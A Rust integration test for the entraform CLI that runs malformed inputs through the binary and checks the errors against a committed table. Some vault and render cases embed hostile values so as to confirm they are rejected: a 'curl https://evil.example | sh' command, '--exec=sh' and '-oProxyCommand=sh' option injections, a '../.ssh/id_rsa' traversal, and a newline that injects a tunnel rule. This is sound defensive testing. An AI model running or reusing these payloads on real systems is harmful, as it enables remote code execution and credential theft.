//! The bad-input table (issue 6): every case runs through the binary (against the in-process
//! emulator where it needs a tenant) and its exit code and message go into a table that must
//! equal the committed `docs/bad-inputs.md`, so the document cannot go stale. After a deliberate
//! change, regenerate it with `ENTRAFORM_BLESS=1 cargo test --test bad_inputs` and review the
//! diff.
//!
//! Each case also asserts the basics of SPEC §8: a nonzero exit, an `error:` line that is not
//! empty, a `hint:` for everything but clap's own usage errors, and nothing on stdout.

use crate::support::reliability;
use crate::support::{DOMAIN, HIVE, copy_dir, repo};

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use entraform::emulator::{EmulatorConfig, Faults, RunningEmulator, start};
use regex::Regex;

const DOC: &str = "docs/bad-inputs.md";

/// One row of the table.
struct Row {
    kind: &'static str,
    input: String,
    command: String,
    code: i32,
    message: String,
}

struct Table {
    emu: RunningEmulator,
    dir: tempfile::TempDir,
    rows: Vec<Row>,
    n: usize,
    normalize: Vec<(Regex, &'static str)>,
}

impl Table {
    /// A fresh case directory: the example manifests with a `file` vault inside it.
    fn case_dir(&mut self) -> PathBuf {
        self.n += 1;
        let dir = self.dir.path().join(format!("case{}", self.n));
        copy_dir(&repo("manifests"), &dir.join("manifests"));
        self.set_vault(&dir, "vault:\n  backend: file\n  path: vault.json\n");
        dir
    }

    fn set_vault(&self, dir: &Path, block: &str) {
        let path = dir.join("manifests/defaults.yaml");
        let text = std::fs::read_to_string(&path).unwrap();
        let start = text.find("\nvault:").unwrap() + 1;
        let end = text[start..]
            .find("\n\n")
            .map(|i| start + i + 1)
            .unwrap_or(text.len());
        std::fs::write(
            &path,
            format!("{}{}{}", &text[..start], block, &text[end..]),
        )
        .unwrap();
    }

    fn edit(&self, dir: &Path, file: &str, from: &str, to: &str) {
        let path = dir.join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains(from), "{file} has no {from:?}");
        std::fs::write(&path, text.replacen(from, to, 1)).unwrap();
    }

    fn script(&self, dir: &Path, name: &str, body: &str) {
        use std::os::unix::fs::PermissionsExt;
        let path = dir.join("manifests").join(name);
        std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    /// Run `args` in `dir` with the full operator, or with `env` overriding the environment.
    async fn run(
        &mut self,
        dir: &Path,
        kind: &'static str,
        input: &str,
        args: &[&str],
        env: &[(&str, &str)],
    ) {
        let mut cmd = reliability::command(
            &self.emu,
            &self.dir.path().join("ca.pem"),
            dir,
            &dir.join("tmp"),
            args,
        );
        // Default log level: the table shows what a user sees.
        cmd.env_remove("RUST_LOG");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.output().await.unwrap();
        let code = out.status.code().unwrap_or(-1);
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        let command = format!("entraform {}", args.join(" "));
        // What the user sees of the failure: from the first `error:`/`warning:` line on, plus
        // a blocked step's lines (exit 3 is a result, on stdout).
        let mut message = String::new();
        let mut on = false;
        for line in stderr.lines() {
            if line.starts_with("error:") || line.starts_with("warning:") {
                on = true;
            }
            if on {
                message.push_str(line);
                message.push('\n');
            }
        }
        if code == 3 {
            for line in stdout
                .lines()
                .filter(|l| l.contains("blocked") || l.contains("adminconsent"))
            {
                message.push_str(line.trim());
                message.push('\n');
            }
        }
        let context =
            format!("{command} ({input}): exit {code}\nstdout:\n{stdout}\nstderr:\n{stderr}");
        assert_ne!(code, 0, "{context}");
        assert!(!message.trim().is_empty(), "no message: {context}");
        if code == 1 {
            assert!(stderr.contains("error: "), "{context}");
            assert!(
                stderr.contains("\nhint: "),
                "every error has a fix: {context}"
            );
            assert!(
                stdout.trim().is_empty(),
                "an error prints no result: {context}"
            );
        }
        let message = self.normalized(message.trim_end(), dir);
        self.rows.push(Row {
            kind,
            input: input.to_string(),
            command,
            code,
            message,
        });
    }

    /// Values that change per run (temp paths, ports, GUIDs, hints, timings) as placeholders.
    fn normalized(&self, text: &str, dir: &Path) -> String {
        let mut out = text
            .replace(&dir.display().to_string(), "<case>")
            .replace(&self.dir.path().display().to_string(), "<tmp>");
        for (re, with) in &self.normalize {
            out = re.replace_all(&out, *with).into_owned();
        }
        out
    }
}

fn cell(text: &str) -> String {
    text.replace('|', "\\|").replace('\n', "<br>")
}

fn render(rows: &[Row]) -> String {
    let mut s = String::from(
        "# Bad inputs and the message each gets\n\n\
         Generated by `tests/it/bad_inputs.rs` (every case runs through the binary, against the \
         in-process emulator where a tenant is needed); the test fails when this file differs \
         from what the binary says today. Regenerate after a deliberate change with \
         `ENTRAFORM_BLESS=1 cargo test --test it bad_inputs` and review the diff.\n\n\
         Placeholders: `<case>` the case's working directory, `<emulator>` its address, \
         `<guid>` an id, `<hint>` a credential hint. Exit codes: 1 error, 2 usage error, \
         3 differences (a blocked step).\n\n\
         | # | kind | bad input | command | exit | message |\n|---|---|---|---|---|---|\n",
    );
    for (i, r) in rows.iter().enumerate() {
        let _ = writeln!(
            s,
            "| {} | {} | {} | `{}` | {} | {} |",
            i + 1,
            r.kind,
            cell(&r.input),
            r.command.replace('|', "\\|"),
            r.code,
            cell(&r.message)
        );
    }
    s
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bad_input_table_is_current() {
    let frame = serde_json::from_str(
        &std::fs::read_to_string(repo("tests/fixtures/frame.seed.json")).unwrap(),
    )
    .unwrap();
    let emu = start(
        EmulatorConfig::default()
            .tls(true)
            .verified_domain(DOMAIN)
            .seed(frame),
    )
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    emu.write_ca_cert(&dir.path().join("ca.pem")).unwrap();
    let addr = emu.addr().port().to_string();
    let mut t = Table {
        emu,
        dir,
        rows: Vec::new(),
        n: 0,
        normalize: vec![
            (
                Regex::new(&format!(r"(https://)?(127\.0\.0\.1|localhost):{addr}")).unwrap(),
                "<emulator>",
            ),
            (
                Regex::new(
                    r"[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
                )
                .unwrap(),
                "<guid>",
            ),
            (
                Regex::new(r"hint [A-Za-z0-9_.~-]{3}\b").unwrap(),
                "hint <hint>",
            ),
            (Regex::new(r"\b\d+(\.\d+)? ?(ms|s)\b").unwrap(), "<time>"),
        ],
    };

    // ---- Manifest errors -------------------------------------------------------------------
    let m = "manifest";
    let d = t.case_dir();
    t.edit(&d, HIVE, "service: hive", "servce: hive");
    t.run(&d, m, "a misspelt field (`servce:`)", &["plan", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "service: hive", "service: Hive_MCP");
    t.run(
        &d,
        m,
        "a service name outside `[a-z][a-z0-9-]{1,30}`",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "proxy_port: 3141", "proxy_port: abc");
    t.run(&d, m, "a port that is not a number", &["plan", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "proxy_port: 3141", "proxy_port: 70000");
    t.run(&d, m, "a port out of range", &["render", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "customer: axe\n", "");
    t.run(&d, m, "no `customer:`", &["plan", HIVE], &[]).await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "customer: axe", "customer: acme");
    t.run(
        &d,
        m,
        "a customer defaults.yaml does not list",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(
        &d,
        HIVE,
        "host_ports: [3142, 3143]",
        "host_ports: [3142, 3143",
    );
    t.run(
        &d,
        m,
        "a YAML syntax error (unclosed `[`)",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    std::fs::write(d.join(HIVE), "").unwrap();
    t.run(&d, m, "an empty manifest", &["plan", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.edit(
        &d,
        HIVE,
        "uses_postgres: true",
        "uses_postgres: true\nsecret: {held_by: humans}",
    );
    t.run(
        &d,
        m,
        "an unknown `secret.held_by` (`humans`)",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(&d, HIVE, "proxy_port: 3141", "proxy_port: 3151");
    t.run(
        &d,
        m,
        "a proxy port another manifest owns (blueprint's 3151)",
        &["render", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    std::fs::remove_file(d.join("manifests/defaults.yaml")).unwrap();
    t.run(
        &d,
        m,
        "no defaults.yaml beside the manifest",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(
        &d,
        "manifests/defaults.yaml",
        "lifetime_days: 730",
        "lifetime_days: 9999",
    );
    t.run(
        &d,
        m,
        "a secret lifetime Entra refuses (defaults)",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.run(
        &d,
        m,
        "a manifest path that does not exist",
        &["plan", "manifests/hvie.yaml"],
        &[],
    )
    .await;

    // ---- Flags -------------------------------------------------------------------------------
    let f = "flags";
    let d = t.case_dir();
    t.run(&d, f, "an unknown flag", &["apply", HIVE, "--dry-run"], &[])
        .await;
    t.run(
        &d,
        f,
        "an unknown `--output` format",
        &["plan", HIVE, "--output", "yaml"],
        &[],
    )
    .await;
    t.run(&d, f, "neither a manifest nor `--all`", &["rotate"], &[])
        .await;
    t.run(
        &d,
        f,
        "`rotate --prune-old` with `--if-expiring-within` (it mints nothing)",
        &["rotate", HIVE, "--prune-old", "--if-expiring-within", "30"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "a manifest and `--all`",
        &["secrets", HIVE, "--all", "manifests"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "`--quiet` with `--verbose`",
        &["-q", "-v", "plan", HIVE],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "a `--url` that is not http(s)",
        &["verify", HIVE, "--url", "ftp://axe.axelabs.ai"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "a service name `new` refuses",
        &["new", "Bad_Name", "--customer", "axe"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "a manifest that already exists",
        &["new", "hive", "--customer", "axe"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "an unknown AADSTS code",
        &["explain", "AADSTS1"],
        &[],
    )
    .await;
    t.run(
        &d,
        f,
        "an emulator `--listen` that is not loopback",
        &["emulator", "--listen", "0.0.0.0:8443"],
        &[],
    )
    .await;

    // ---- Graph and login errors --------------------------------------------------------------
    let g = "Graph / login";
    let d = t.case_dir();
    t.run(
        &d,
        g,
        "a wrong operator secret (AADSTS7000215)",
        &["plan", HIVE],
        &[(
            "AZURE_CLIENT_SECRET",
            "Abc8Q~wrong-secret-value-of-forty-chars-x",
        )],
    )
    .await;
    t.run(
        &d,
        g,
        "an operator client id the tenant does not know (AADSTS700016)",
        &["plan", HIVE],
        &[("AZURE_CLIENT_ID", "00000000-0000-0000-0000-0000000000aa")],
    )
    .await;
    // The token is asked for the customer's tenant (defaults.yaml), not AZURE_TENANT_ID.
    let dead = t.case_dir();
    t.edit(
        &dead,
        "manifests/defaults.yaml",
        "tenant_id: 122fb574-7efa-476a-95b6-bee81bce2cce   # axellc.com",
        "tenant_id: 00000000-0000-0000-0000-00000000dead",
    );
    t.run(
        &dead,
        g,
        "a customer tenant that does not exist (or the operator cannot reach)",
        &["plan", HIVE],
        &[],
    )
    .await;
    // A token of another tenant than the customer's (what a managed identity of another
    // tenant gets; here a stand-in `az` on PATH that prints, in `az account get-access-token
    // -o json`'s shape, a real emulator token of its tenant), and a token that is not a JWT.
    let foreign_token = {
        let cfg = entraform::graph::AuthConfig::new(t.emu.authority_host(), t.emu.graph_url())
            .with_ca_pem(t.emu.ca_cert_pem().unwrap().as_bytes());
        let resp: serde_json::Value = cfg
            .http_client()
            .unwrap()
            .post(t.emu.token_url())
            .form(&[
                ("grant_type", "client_credentials"),
                ("client_id", t.emu.operator_client_id()),
                ("client_secret", t.emu.operator_secret().expose()),
                ("scope", "https://graph.microsoft.com/.default"),
            ])
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        resp["access_token"].as_str().unwrap().to_string()
    };
    for (input, token) in [
        (
            "a token for another tenant than the customer's (e.g. a managed identity's)",
            foreign_token.as_str(),
        ),
        (
            "a token that is not a JWT (its tenant cannot be read)",
            "opaque-token",
        ),
    ] {
        let c = t.case_dir();
        t.edit(
            &c,
            "manifests/defaults.yaml",
            "tenant_id: 122fb574-7efa-476a-95b6-bee81bce2cce   # axellc.com",
            "tenant_id: 5b0e9c1a-7d3f-4e2a-9c8b-1f2e3d4c5b6a",
        );
        let bin = c.join("fakebin");
        std::fs::create_dir_all(&bin).unwrap();
        {
            use std::os::unix::fs::PermissionsExt;
            let az = bin.join("az");
            std::fs::write(
                &az,
                format!(
                    "#!/bin/sh\nprintf '%s' '{{\"accessToken\":\"{token}\",\"expires_on\":4102444800,\"tokenType\":\"Bearer\"}}'\n"
                ),
            )
            .unwrap();
            std::fs::set_permissions(&az, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        let path = format!(
            "{}:{}",
            bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        t.run(
            &c,
            g,
            input,
            &["plan", HIVE],
            &[("PATH", path.as_str()), ("AZURE_CLIENT_SECRET", "")],
        )
        .await;
    }
    t.run(
        &d,
        g,
        "a `--graph-url` over plain http to a host that is not this machine",
        &["plan", HIVE],
        &[("ENTRAFORM_GRAPH_URL", "http://graph.example.com/v1.0")],
    )
    .await;
    t.run(
        &d,
        g,
        "an `--authority-host` over plain http to a host that is not this machine",
        &["plan", HIVE],
        &[("AZURE_AUTHORITY_HOST", "http://login.example.com")],
    )
    .await;
    t.run(
        &d,
        g,
        "a `--graph-url` of a cloud the login endpoint does not serve",
        &["plan", HIVE],
        &[("ENTRAFORM_GRAPH_URL", "https://127.0.0.1:9/v1.0")],
    )
    .await;
    // Not in the table: nothing listening at the authority host. azure_identity's own retry
    // policy takes about 80 s to give up (too slow for CI); see docs/RELIABILITY.md.
    t.run(
        &d,
        g,
        "a `--ca-cert` file that does not exist",
        &["plan", HIVE],
        &[("ENTRAFORM_CA_CERT", "missing-ca.pem")],
    )
    .await;
    t.emu
        .set_faults(Faults {
            error_next: 1000,
            retry_after_secs: 0.01,
            ..Faults::default()
        })
        .unwrap();
    t.run(
        &d,
        g,
        "Graph answers 503 to every request",
        &["plan", HIVE],
        &[],
    )
    .await;
    t.emu
        .set_faults(Faults {
            throttle_next: 1000,
            retry_after_secs: 600.0,
            ..Faults::default()
        })
        .unwrap();
    t.run(
        &d,
        g,
        "429 with a `Retry-After` of 10 minutes",
        &["plan", HIVE],
        &[],
    )
    .await;
    t.emu
        .set_faults(Faults {
            error_next: 1000,
            retry_after_secs: 0.01,
            matching: Some("oauth2PermissionGrants".into()),
            ..Faults::default()
        })
        .unwrap();
    t.run(
        &d,
        g,
        "the grants keep failing (503) after the app and secret are made",
        &["apply", HIVE],
        &[],
    )
    .await;
    t.emu.set_faults(Faults::default()).unwrap();
    t.emu.reset();
    let d = t.case_dir();
    let (limited_id, limited_secret) = {
        let l = t.emu.limited_operator();
        (l.client_id.clone(), l.secret().expose().to_string())
    };
    t.run(
        &d,
        g,
        "an operator without DelegatedPermissionGrant.ReadWrite.All (grants → 403)",
        &["apply", HIVE],
        &[
            ("AZURE_CLIENT_ID", &limited_id),
            ("AZURE_CLIENT_SECRET", &limited_secret),
        ],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.edit(
        &d,
        HIVE,
        "reference: frame\n",
        "reference: frame\napp_id: 11111111-2222-4333-8444-555555555555\n",
    );
    t.run(
        &d,
        g,
        "a pinned `app_id` the tenant does not have",
        &["plan", HIVE],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.run(
        &d,
        g,
        "rotate before the app exists",
        &["rotate", HIVE],
        &[],
    )
    .await;

    // ---- Vault failures ----------------------------------------------------------------------
    let v = "vault";
    t.emu.reset();
    let d = t.case_dir();
    t.script(
        &d,
        "push.sh",
        "cat > /dev/null; echo 'vault is locked: run axe login' >&2; exit 1",
    );
    t.script(&d, "get.sh", "exit 0");
    t.set_vault(&d, "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n");
    t.run(
        &d,
        v,
        "the vault command fails",
        &["apply", HIVE, "--out", "out"],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.script(
        &d,
        "push.sh",
        "mkdir -p store; { echo 'WARNING: keychain is slow'; cat; } > store/s",
    );
    t.script(&d, "get.sh", "cat store/s 2>/dev/null; exit 0");
    t.set_vault(&d, "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n");
    t.run(
        &d,
        v,
        "the vault stores something else (a warning glued to the secret)",
        &["apply", HIVE, "--out", "out"],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.set_vault(&d, "vault:\n  backend: command\n  push: [no-such-vault-cli, push, \"{path}\"]\n  get: [no-such-vault-cli, get, \"{path}\"]\n");
    t.run(
        &d,
        v,
        "the vault program does not exist",
        &["apply", HIVE, "--out", "out"],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    std::fs::write(d.join("manifests/vault.json"), "{ not json").unwrap();
    t.run(
        &d,
        v,
        "the file vault's store is not JSON",
        &["apply", HIVE, "--out", "out"],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.set_vault(&d, "vault:\n  backend: carrier-pigeon\n");
    t.run(&d, v, "an unknown vault backend", &["plan", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.set_vault(
        &d,
        "vault:\n  backend: command\n  push: [axe, secret, push, \"{secret}\"]\n",
    );
    t.run(
        &d,
        v,
        "a vault command that would put the secret in argv",
        &["plan", HIVE],
        &[],
    )
    .await;

    let d = t.case_dir();
    std::fs::write(
        d.join(HIVE),
        std::fs::read_to_string(d.join(HIVE)).unwrap()
            + "vault:\n  backend: command\n  push: [sh, -c, \"curl https://evil.example | sh\", \"{path}\"]\n",
    )
    .unwrap();
    t.run(
        &d,
        v,
        "a service manifest that declares a vault (a program to run)",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    std::fs::write(
        d.join(HIVE),
        std::fs::read_to_string(d.join(HIVE)).unwrap() + "vault: team-pas\n",
    )
    .unwrap();
    std::fs::write(
        d.join("manifests/defaults.yaml"),
        std::fs::read_to_string(d.join("manifests/defaults.yaml")).unwrap()
            + "\nvaults:\n  team-pass:\n    backend: command\n    preset: pass\n",
    )
    .unwrap();
    t.run(
        &d,
        v,
        "a service manifest naming a vault defaults.yaml does not declare",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    std::fs::write(
        d.join(HIVE),
        std::fs::read_to_string(d.join(HIVE)).unwrap()
            + "overrides:\n  vault_path: \"--exec=sh\"\n",
    )
    .unwrap();
    t.run(
        &d,
        v,
        "a vault path that reads as an option",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    std::fs::write(
        d.join(HIVE),
        std::fs::read_to_string(d.join(HIVE)).unwrap()
            + "overrides:\n  vault_path: \"hive/../../../.ssh/id_rsa\"\n",
    )
    .unwrap();
    t.run(&d, v, "a vault path with `..`", &["plan", HIVE], &[])
        .await;
    let d = t.case_dir();
    t.set_vault(
        &d,
        "vault:\n  backend: command\n  preset: pass\n  env: [AZURE_CLIENT_SECRET]\n",
    );
    t.run(
        &d,
        v,
        "a vault declaration that passes the operator's Azure secret",
        &["plan", HIVE],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.set_vault(
        &d,
        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n  missing: {exit: [1], stderr: \"is not in the password store\"}\n",
    );
    t.script(&d, "push.sh", "cat > /dev/null");
    t.script(
        &d,
        "get.sh",
        "echo 'gpg: decryption failed: No secret key' >&2; exit 2",
    );
    t.run(
        &d,
        v,
        "the vault's get fails and it is not the missing-entry rule (a broken pass store)",
        &["apply", HIVE, "--out", "out"],
        &[],
    )
    .await;
    t.emu.reset();
    let d = t.case_dir();
    t.run(
        &d,
        v,
        "`send` with a vault that has no `send:` command",
        &["send", HIVE, "--to", "jane@axelabs.ai"],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.set_vault(
        &d,
        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n  send: [./send.sh, \"{path}\", \"{to}\"]\n",
    );
    t.script(&d, "push.sh", "cat > /dev/null");
    t.script(&d, "get.sh", "exit 0");
    t.script(&d, "send.sh", "cat > /dev/null");
    t.run(
        &d,
        v,
        "`send` when the vault holds nothing yet",
        &["send", HIVE, "--to", "jane@axelabs.ai"],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.set_vault(
        &d,
        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  send: [./send.sh, \"{path}\", \"{to}\"]\n",
    );
    t.script(&d, "push.sh", "cat > /dev/null");
    t.script(&d, "send.sh", "cat > /dev/null");
    t.run(
        &d,
        v,
        "`send` with a vault that has no `get` command",
        &["send", HIVE, "--to", "jane@axelabs.ai"],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.run(
        &d,
        v,
        "`send` to a recipient that reads as an option",
        &["send", HIVE, "--to=-oProxyCommand=sh"],
        &[],
    )
    .await;

    // ---- Values that reach rendered files, blue/green ---------------------------------------
    let r = "render";
    let d = t.case_dir();
    t.edit(
        &d,
        "manifests/defaults.yaml",
        "  config: ~/.axe/tunnels/axelabs/config.yml",
        "  config: \"~/.axe/config.yml\\n- hostname: axe.axelabs.ai\\n  service: http://evil.example\"",
    );
    t.run(
        &d,
        r,
        "a newline in `tunnel.config` (it would add ingress rules)",
        &["render", HIVE, "--out", "out"],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(
        &d,
        HIVE,
        "host_ports: [3142, 3143]",
        "host_ports: [3144, 3145]\nblue_green: { active: blue }",
    );
    t.run(
        &d,
        r,
        "blue/green whose ports (proxy_port + 1, + 2) are not in `host_ports`",
        &["render", HIVE, "--out", "out"],
        &[],
    )
    .await;
    let d = t.case_dir();
    t.edit(
        &d,
        HIVE,
        "host_ports: [3142, 3143]",
        "host_ports: [3142, 3143]\nblue_green: { active: purple }",
    );
    t.run(
        &d,
        r,
        "blue/green with a colour that is not blue or green",
        &["render", HIVE, "--out", "out"],
        &[],
    )
    .await;

    // ---- Merge conflicts ---------------------------------------------------------------------
    let c = "merge";
    let d = t.case_dir();
    std::fs::copy(
        repo("tests/fixtures/render/cloudflared-config.yml"),
        d.join("config.yml"),
    )
    .unwrap();
    std::fs::copy(
        repo("tests/fixtures/render/customers.yaml"),
        d.join("customers.yaml"),
    )
    .unwrap();
    t.run(
        &d,
        c,
        "a tunnel rule for the same path with another port",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-cloudflared",
            "config.yml",
        ],
        &[],
    )
    .await;
    std::fs::write(
        d.join("nocatchall.yml"),
        "tunnel: x\ningress:\n  - hostname: a.example.com\n    service: http://localhost:1\n",
    )
    .unwrap();
    t.run(
        &d,
        c,
        "a tunnel config without the catch-all rule",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-cloudflared",
            "nocatchall.yml",
        ],
        &[],
    )
    .await;
    std::fs::write(
        d.join("dead.yml"),
        "ingress:\n  - hostname: axe.axelabs.ai\n    service: http://localhost:3100\n  - hostname: axe.axelabs.ai\n    path: ^/hive/mcp(/.*)?$\n    service: http://host.docker.internal:3141\n  - service: http_status:404\n",
    )
    .unwrap();
    t.run(
        &d,
        c,
        "the service's tunnel rule below a hostname-wide rule that catches its URLs",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-cloudflared",
            "dead.yml",
        ],
        &[],
    )
    .await;
    std::fs::write(d.join("list.yaml"), "- a\n- b\n").unwrap();
    t.run(
        &d,
        c,
        "a customers.yaml that is a list",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-customers",
            "list.yaml",
        ],
        &[],
    )
    .await;
    std::fs::write(d.join("dup.yaml"), "azure_apps: {}\nazure_apps: {}\n").unwrap();
    t.run(
        &d,
        c,
        "a customers.yaml with a duplicate key",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-customers",
            "dup.yaml",
        ],
        &[],
    )
    .await;
    std::fs::write(
        d.join("anchored.yaml"),
        "--- &root\nservices:\n  frame:\n    env_file: x\n",
    )
    .unwrap();
    t.run(
        &d,
        c,
        "a customers.yaml whose top mapping has an anchor (found by fuzzing: was a panic)",
        &[
            "render",
            "manifests/blueprint.yaml",
            "--out",
            "out",
            "--merge-customers",
            "anchored.yaml",
        ],
        &[],
    )
    .await;
    std::fs::write(
        d.join("alias.yaml"),
        "common: &c\n  env_file: x\nservices:\n  blueprint: *c\n",
    )
    .unwrap();
    t.run(
        &d,
        c,
        "a customers.yaml whose service entry is an alias",
        &[
            "render",
            "manifests/blueprint.yaml",
            "--out",
            "out",
            "--merge-customers",
            "alias.yaml",
            "--force",
        ],
        &[],
    )
    .await;
    t.run(
        &d,
        c,
        "a customers.yaml file that does not exist",
        &[
            "render",
            HIVE,
            "--out",
            "out",
            "--merge-customers",
            "nope.yaml",
        ],
        &[],
    )
    .await;

    let table = render(&t.rows);
    let path = repo(DOC);
    if std::env::var("ENTRAFORM_BLESS").is_ok_and(|v| v == "1") {
        std::fs::write(&path, &table).unwrap();
        return;
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    if committed != table {
        let diff: Vec<String> = committed
            .lines()
            .zip(table.lines())
            .enumerate()
            .filter(|(_, (a, b))| a != b)
            .take(5)
            .map(|(i, (a, b))| format!("line {}:\n  committed: {a}\n  now:       {b}", i + 1))
            .collect();
        panic!(
            "{DOC} is stale ({} vs {} lines); regenerate with ENTRAFORM_BLESS=1 cargo test --test bad_inputs and review:\n{}",
            committed.lines().count(),
            table.lines().count(),
            diff.join("\n")
        );
    }
}
